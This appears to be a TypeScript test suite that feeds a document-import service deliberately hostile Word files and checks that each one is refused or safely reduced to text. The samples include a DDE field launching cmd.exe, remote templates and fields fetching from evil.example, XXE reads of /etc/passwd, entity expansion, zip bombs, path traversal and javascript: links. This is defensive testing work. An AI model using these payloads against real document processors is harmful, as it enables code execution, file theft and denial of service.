// Hostile Word files at both doors: what may be stored (office-file.ts), and what is read in (import-reading.ts). Nothing but blocks comes out, in bounded time, and the process lives.
import { zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import type { Block } from '#contract/notices/schema.ts'
import { linesOf } from '#contract/notices/words.ts'
import { examineOffice } from '#server/files/office-file.ts'
import { AppError } from '#server/errors.ts'
import { readWordFile } from '#server/notices/import-reading.ts'
import { contentTypes, documentXml, handDocx, para, pictureXml, relations, samplePicture } from './docx-samples.ts'
import { faultsOf } from './hostile-samples.ts'

const relation = (id: string, type: string, target: string, mode = '') => `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode === '' ? '' : ` TargetMode="${mode}"`}/>`
const documentRelations = (inner: string) => ({ 'word/_rels/document.xml.rels': relations(inner) })
const settings = (target: string) => ({ 'word/settings.xml': '<w:settings xmlns:w="w"/>', 'word/_rels/settings.xml.rels': relations(relation('r1', 'attachedTemplate', target, 'External')) })
const entities = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'a'.repeat(1000)}">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`
const zeros = new Uint8Array(30 * 1024 * 1024)
const code = (promise: Promise<unknown>): Promise<string> => promise.then(() => 'taken', (error: unknown) => (error instanceof AppError ? error.code : `not ours: ${String(error)}`))

/** A copy whose list at the end says something else; `at`: bytes after the begin of an entry in the list. */
function withList(zip: Buffer, name: string, change: (bytes: Buffer, at: number) => void): Buffer {
  const copy = Buffer.from(zip)
  for (let at = copy.indexOf(Buffer.from('PK\u0001\u0002')); at >= 0; at = copy.indexOf(Buffer.from('PK\u0001\u0002'), at + 4)) if (copy.toString('utf8', at + 46, at + 46 + name.length) === name) change(copy, at)
  return copy
}

const plain = handDocx(para('字'))

describe('what may be stored', () => {
  it.each<[what: string, bytes: () => Buffer, code: string]>([
    ['an ordinary one', () => plain, 'taken'],
    ['a template on somebody’s own disk', () => handDocx(para('字'), settings('file:///C:\\Users\\a\\Normal.dotm')), 'taken'],
    ['a link and a linked picture', () => handDocx(para('字'), documentRelations(relation('r1', 'hyperlink', 'https://a.cn', 'External') + relation('r2', 'image', 'https://a.cn/x.png', 'External'))), 'taken'],
    ['a template of the web', () => handDocx(para('字'), settings('https://evil.example/x.dotm')), 'files.active-content'],
    ['a template of another machine', () => handDocx(para('字'), settings('\\\\evil\\x.dotm')), 'files.active-content'],
    ['the same as an address', () => handDocx(para('字'), settings('file://evil/x.dotm')), 'files.active-content'],
    ['an object from outside', () => handDocx(para('字'), documentRelations(relation('r1', 'oleObject', 'https://evil.example/x', 'External'))), 'files.active-content'],
    ['an object in it', () => handDocx(para('字'), { 'word/embeddings/oleObject1.bin': 'x' }), 'files.active-content'],
    ['a program in it', () => handDocx(para('字'), { 'word/embeddings/rechnung.exe': 'x' }), 'files.active-content'],
    ['macros', () => handDocx(para('字'), { 'word/vbaProject.bin': 'x' }), 'files.active-content'],
    ['macros by their type', () => handDocx(para('字'), { '[Content_Types].xml': contentTypes.replace('wordprocessingml.document.main+xml', 'document.macroEnabled.main+xml') }), 'files.active-content'],
    ['controls', () => handDocx(para('字'), { 'word/activeX/activeX1.xml': '<ax/>' }), 'files.active-content'],
    ['a field that runs', () => handDocx('<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'), 'files.active-content'],
    ['a field that fetches', () => handDocx('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;https://evil.example/x&quot;"/></w:p>'), 'files.active-content'],
    ['another text brought in', () => handDocx('<w:altChunk r:id="r1"/>', { ...documentRelations(relation('r1', 'aFChunk', 'a.mht')), 'word/a.mht': 'x' }), 'files.active-content'],
    ['entities in the text', () => handDocx('', { 'word/document.xml': `${entities}<w:document/>` }), 'files.damaged'],
    ['an entity of the disk', () => handDocx('', { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }), 'files.damaged'],
    ['a bomb', () => handDocx(para('字'), { 'word/media/a.xml': zeros, 'word/media/b.xml': zeros, 'word/media/c.xml': zeros }), 'files.too-large'],
    ['a smaller bomb', () => handDocx(para('字'), { 'word/media/a.xml': zeros.subarray(0, 3_000_000) }), 'files.too-large'],
    ['a bomb that lies about its size', () => withList(handDocx(para('字'), { 'word/media/a.xml': zeros }), 'word/media/a.xml', (bytes, at) => bytes.writeUInt32LE(1000, at + 24)), 'files.damaged'],
    ['one that lies the other way', () => withList(plain, 'word/document.xml', (bytes, at) => bytes.writeUInt32LE(bytes.readUInt32LE(at + 24) + 5, at + 24)), 'files.damaged'],
    ['too many entries', () => handDocx(para('字'), Object.fromEntries(Array.from({ length: 2100 }, (_, index) => [`word/a${index}.xml`, '<a/>']))), 'files.too-large'],
    ['entries over each other', () => withList(handDocx(para('字'), { 'word/media/a.xml': zeros.subarray(0, 200) }), 'word/document.xml', (bytes, at) => bytes.writeUInt32LE(bytes.length, at + 20)), 'files.damaged'],
    ['a way out of the folder', () => handDocx(para('字'), { '../../etc/cron.d/x': 'x' }), 'files.damaged'],
    ['an absolute name', () => handDocx(para('字'), { '/etc/x': 'x' }), 'files.damaged'],
    ['a name with backslashes', () => handDocx(para('字'), { 'word\\..\\..\\x': 'x' }), 'files.damaged'],
    ['two of one name', () => handDocx(para('字'), { 'WORD/document.xml': documentXml(para('别的')) }), 'files.damaged'],
    ['a password on an entry', () => withList(plain, 'word/document.xml', (bytes, at) => bytes.writeUInt16LE(1, at + 8)), 'files.encrypted'],
    ['a way of packing nobody knows', () => withList(plain, 'word/document.xml', (bytes, at) => bytes.writeUInt16LE(99, at + 10)), 'files.damaged'],
    ['something behind the end', () => Buffer.concat([plain, Buffer.from('<script>')]), 'files.damaged'],
    ['half of it', () => plain.subarray(0, plain.length / 2), 'files.damaged'],
    ['a changed byte', () => { const copy = Buffer.from(plain); const at = copy.indexOf(Buffer.from('word/document.xml')) + 60; copy[at] = (copy[at] ?? 0) ^ 0xff; return copy }, 'files.damaged'],
    ['nothing but the end of a zip', () => Buffer.from('504b0506000000000000000000000000000000000000', 'hex'), 'files.wrong-type'],
    ['another zip', () => Buffer.from(zipSync({ 'a.txt': new Uint8Array(3) })), 'files.wrong-type'],
    ['a presentation', () => handDocx('', { '[Content_Types].xml': contentTypes.replace('wordprocessingml.document', 'presentationml.presentation') }), 'files.wrong-type'],
  ])('%s: %#', async (_, bytes, expected) => expect(await code(examineOffice(bytes()))).toBe(expected))
})

const svg = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>')
const picture = (name: string, bytes: Uint8Array, id = 'p1') => ({ ...documentRelations(relation(id, 'image', `media/${name}`)), [`word/media/${name}`]: bytes })

/** [what, file, words that must be there]: read in, or refused by its code; never anything else. */
const toRead: readonly (readonly [what: string, bytes: () => Buffer | Promise<Buffer>, kept?: string])[] = [
  ['markup as words', () => handDocx(para('&lt;script&gt;alert(1)&lt;/script&gt;')), '<script>alert(1)</script>'],
  ['links that run', () => handDocx(['javascript:alert(1)', 'JAVA&#9;SCRIPT:alert(1)', 'vbscript:x', 'data:text/html,x', 'file:///etc/passwd', '//evil.example'].map((_, index) => `<w:p><w:hyperlink r:id="l${index}"><w:r><w:t>点</w:t></w:r></w:hyperlink></w:p>`).join(''), documentRelations(['javascript:alert(1)', 'JAVA&#9;SCRIPT:alert(1)', 'vbscript:x', 'data:text/html,x', 'file:///etc/passwd', '//evil.example'].map((target, index) => relation(`l${index}`, 'hyperlink', target, 'External')).join(''))), '点'],
  ['a link as a field', () => handDocx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "javascript:alert(1)"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>点</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), '点'],
  ['entities that multiply', () => handDocx('', { 'word/document.xml': `${entities}${documentXml(para('&j;字')).replace(/^<\?xml[^>]*>/, '')}` })],
  ['an entity of the disk', () => handDocx('', { 'word/document.xml': `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${documentXml(para('&a;字')).replace(/^<\?xml[^>]*>/, '')}` })],
  ['XML that ends in the middle', () => handDocx('', { 'word/document.xml': documentXml(para('字')).slice(0, -40) })],
  ['XML that is none', () => handDocx('', { 'word/document.xml': new Uint8Array([0, 1, 2, 255, 254]) })],
  ['an empty text', () => handDocx('', { 'word/document.xml': '' })],
  ['no text', () => Buffer.from(zipSync({ '[Content_Types].xml': new TextEncoder().encode(contentTypes), '_rels/.rels': new TextEncoder().encode(relations(relation('r', 'officeDocument', '../../../etc/passwd'))) }))],
  ['ten thousand tables in tables', () => handDocx(`${'<w:tbl><w:tr><w:tc>'.repeat(10_000)}${para('字')}${'</w:tc></w:tr></w:tbl>'.repeat(10_000)}`)],
  ['two hundred tables in tables', () => handDocx(`${'<w:tbl><w:tr><w:tc>'.repeat(100)}${para('字')}${'</w:tc></w:tr></w:tbl>'.repeat(100)}`)],
  ['a cell over everything', () => handDocx(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${para('甲')}</w:tc></w:tr><w:tr><w:tc>${para('乙')}</w:tc></w:tr></w:tbl>`), '乙'],
  ['five thousand paragraphs', () => handDocx(para('字').repeat(5000), {}, false), '字'],
  ['a paragraph of two million signs', () => handDocx(para('字'.repeat(2_000_000)), {}, false), '字'],
  ['an attribute of a megabyte', () => handDocx(`<w:p w:x="${'a'.repeat(1_000_000)}"><w:r><w:t>字</w:t></w:r></w:p>`), '字'],
  ['styles that inherit in a circle', () => handDocx(para('字', '<w:pStyle w:val="a"/>'), { 'word/styles.xml': '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>' }), '字'],
  ['numbers beyond all numbers', () => handDocx(para('字', '<w:numPr><w:ilvl w:val="8888"/><w:numId w:val="-1"/></w:numPr>') + para('字', '<w:numPr><w:numId w:val="__proto__"/></w:numPr>')), '字'],
  ['a picture of vectors', () => handDocx(para('字') + pictureXml('p1'), picture('a.svg', svg)), '字'],
  ['an old picture of vectors', () => handDocx(para('字') + pictureXml('p1'), picture('a.emf', new Uint8Array(200))), '字'],
  ['vectors that say they are a PNG', () => handDocx(para('字') + pictureXml('p1'), picture('a.png', svg)), '字'],
  ['a picture with a page behind it', async () => handDocx(para('字') + pictureXml('p1'), picture('a.png', Buffer.concat([await samplePicture(), Buffer.from('<script>alert(1)</script>')]))), '字'],
  ['a picture that is not there', () => handDocx(para('字') + pictureXml('p9')), '字'],
  ['a picture outside the folder', () => handDocx(para('字') + pictureXml('p1'), documentRelations(relation('p1', 'image', '../../../../etc/passwd'))), '字'],
  ['a picture of the web', () => handDocx(para('字') + pictureXml('p1').replace('r:embed', 'r:link'), documentRelations(relation('p1', 'image', 'http://127.0.0.1:9/x.png', 'External'))), '字'],
  ['overrides and unseen signs', () => handDocx(para('付款\u202e\u2066100\u2069\u202c\u200b\ufeff元')), '付款100元'],
  ['half a surrogate and NUL as entities', () => handDocx(para('字&#xD800;&#0;&#xFFFF;')), '字'],
  ['rare signs and emoji', () => handDocx(para('𠮷林🏭👨‍👩‍👧‍👦')), '𠮷林🏭👨‍👩‍👧‍👦'],
  ['marks of our own', () => handDocx(para('\ue010text-align:right;x-level:1\ue011一、\ue012字') + para('&#xE010;x-level:1&#xE011;&#xE012;词')), '字'],
  ['styles as words of a style', () => handDocx(para('字', '<w:jc w:val="center;background:url(javascript:alert(1))"/>')), '字'],
  ['a hidden page of another program', () => handDocx(para('字'), { 'mammoth/style-map': 'p => script:fresh' }), '字'],
  ['UTF-16', () => handDocx('', { 'word/document.xml': Buffer.from(`\ufeff${documentXml(para('字')).replace('UTF-8', 'UTF-16')}`, 'utf16le') }), '字'],
]

describe('what is read in', () => {
  it.each(toRead.map(([what, make, kept]) => [what, make, kept] as const))('%s', async (_, make, kept) => {
    const answer = await readWordFile(await make()).catch((error: unknown) => error)
    if (answer instanceof AppError) {
      expect([answer.code, kept]).toEqual(['notices.import-unreadable', undefined])
      return
    }
    const { blocks, title, pictures } = answer as { blocks: Block[]; title: string | null; pictures: { bytes: Uint8Array }[] }
    expect(faultsOf(blocks)).toEqual([])
    const words = [title ?? '', ...blocks.flatMap(linesOf)].join('\n')
    if (kept !== undefined) expect(words).toContain(kept)
    expect(words).not.toMatch(/root:|aaaaaaaaaa/)
    expect(pictures.every(({ bytes }) => bytes[0] === 0x89 || bytes[0] === 0xff)).toBe(true)
  })

  it('what takes too long ends, and the next one is read', async () => {
    const [slow, next] = [code(readWordFile(handDocx(para('字').repeat(30_000), {}, false), 1)), readWordFile(plain)]
    expect(await slow).toBe('notices.import-unreadable')
    expect((await next).blocks).toEqual([{ paragraph: '字' }])
  })

  it('too many at once are asked to come again', async () => {
    const all = await Promise.all(Array.from({ length: 14 }, () => code(readWordFile(plain, 1))))
    expect([all.filter((one) => one === 'unavailable').length, all.every((one) => one === 'unavailable' || one === 'notices.import-unreadable' || one === 'taken')]).toEqual([4, true])
  })

  it('a bomb behind the first door is none behind the second', async () => {
    expect(await code(readWordFile(handDocx(para('字'), { 'word/media/a.png': zeros, 'word/media/b.png': zeros, 'word/media/c.png': zeros })))).toBe('notices.import-unreadable')
  })
})
